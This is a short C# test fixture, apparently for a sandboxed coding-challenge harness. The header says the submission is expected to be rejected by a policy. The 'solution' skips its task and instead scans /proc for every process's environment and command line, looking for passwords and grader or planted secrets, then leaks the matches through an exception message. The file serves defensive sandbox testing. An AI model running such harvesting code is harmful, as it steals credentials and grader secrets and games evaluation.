// challenge: pass-on
// expect: rejected
// expect without policy: failed
// about: reads the environment and the command line of every process that it sees.
public static class Solution
{
    public static IEnumerable<T> PassOn<T>(IEnumerable<T> source)
    {
        object? loot = string.Join(' ', Directory.EnumerateDirectories("/proc", "*").SelectMany(folder => new[] { "environ", "cmdline" }.Select(file => Try(() => File.ReadAllText(Path.Combine(folder, file)).Replace('\0', ' ')))).Where(text => text!.Contains("planted") || text.Contains("graders") || text.Contains("Passwor")).DefaultIfEmpty("nothing"));
        if (loot is not null) throw new InvalidOperationException($"loot: {loot}");
        return source.ToList();
    }

    private static string? Try(Func<string?> theft)
    {
        try
        {
            return theft();
        }
        catch (Exception refused)
        {
            return refused.GetType().Name;
        }
    }
}
